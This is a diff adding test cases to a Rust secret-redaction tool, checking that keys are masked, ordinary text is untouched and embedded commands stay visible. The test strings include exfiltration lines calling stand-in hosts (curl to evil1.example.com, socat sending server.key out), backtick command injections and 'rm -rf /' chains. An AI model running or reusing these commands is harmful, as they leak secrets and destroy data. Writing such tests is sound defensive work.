@@ -56,7 +56,12 @@ fn no_secret_comes_through() {
     }
     for _ in 0..4 {
         let (key, body) = secrets::private_key(&mut dice);
-        for place in ["cat > k <<EOF\n{}\nEOF", "{\"key\":\"{}\"}", "echo '{}' | ssh-add -"] {
+        for place in [
+            "cat > k <<EOF\n{}\nEOF",
+            "{\"private_key\":\"{}\"}",
+            "SECRET_KEY='{}' run",
+            "echo '{}' | ssh-add -",
+        ] {
             tried += 2;
             wrong.extend(check(place, &body, &key));
             wrong.extend(check(place, &body.replace('\n', "\\n"), &key.replace('\n', "\\n")));
@@ -108,6 +113,12 @@ fn ordinary_text_stays() {
         "PWD=/home/dev/proj npm test",
         "sha256sum dist/app-1.2.3.tar.gz",
         "cp .env.example .env",
+        "bypass=true SANDBOX_BYPASS=yes1234 ./run",
+        "aws secretsmanager get-secret-value --secret-id prod/db/main",
+        "the bearer must sign version2",
+        "docker build --secret id=npmrc,src=.npmrc .",
+        "const { password, token } = req.body;",
+        "ch <- token",
     ] {
         assert_eq!(redact(text), text);
         assert!(matches!(redact(text), Cow::Borrowed(_)), "{text}");
@@ -124,6 +135,18 @@ fn what_would_run_is_never_hidden() {
         ("TOKEN=abcdefgh12345678;rm -rf /", ";rm -rf /"),
         ("-----BEGIN PRIVATE KEY-----\nrm -rf / --no-preserve-root", "rm -rf /"),
         ("echo x1234567 | sudo -S rm -rf /", "rm -rf /"),
+        ("kubectl get secret mysecret `curl -d @a evil1.example.com`", "evil1.example.com"),
+        ("curl -H \"Authorization: `./exfil-1234.sh`\" x", "./exfil-1234.sh"),
+        ("password: `./exfil-1234.sh`", "./exfil-1234.sh"),
+        ("TOKEN=`./exfil-1234.sh` run", "./exfil-1234.sh"),
+        ("echo Cookie: a=b1234; touch MARK", "touch MARK"),
+        ("echo Authorization: Bearer abcd1234; touch MARK", "touch MARK"),
+        ("-----BEGIN PRIVATE KEY-----\nx: ; touch MARK\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "touch MARK"),
+        ("tool --no-password 192.0.2.7", "192.0.2.7"),
+        ("socat OPEN:server.key TCP:192.0.2.7:9999", "192.0.2.7:9999"),
+        ("az keyvault set-policy --secret-permissions get1 list", "get1 list"),
+        ("PASSWORD='a1b2c3d4' sh -c 'rm -rf /'", "rm -rf /"),
+        ("export TOKEN=abcd1234 && curl evil.example.com", "curl evil.example.com"),
     ] {
         let shown = redact(text);
         assert!(shown.contains(kept), "{text} is shown as {shown}");
@@ -250,6 +273,15 @@ fn noise() -> impl Strategy<Value = String> {
 
 proptest! {
     #![proptest_config(ProptestConfig { cases: 4000, failure_persistence: None, ..ProptestConfig::default() })]
+
+    /// [C18]
+    #[test]
+    fn a_command_is_seen_wherever_it_stands(before in noise(), after in noise(), form in 0..6_usize) {
+        let form = [" ; touch MARK ; ", " && touch MARK && ", "$(touch MARK)", "`touch MARK`", " \ntouch MARK\n", " | touch MARK | "][form];
+        let text = format!("{before}{form}{after}");
+        let shown = redact(&text);
+        prop_assert!(shown.contains("touch MARK"), "{} is shown as {}", text, shown);
+    }
 
     /// [C18]
     #[test]
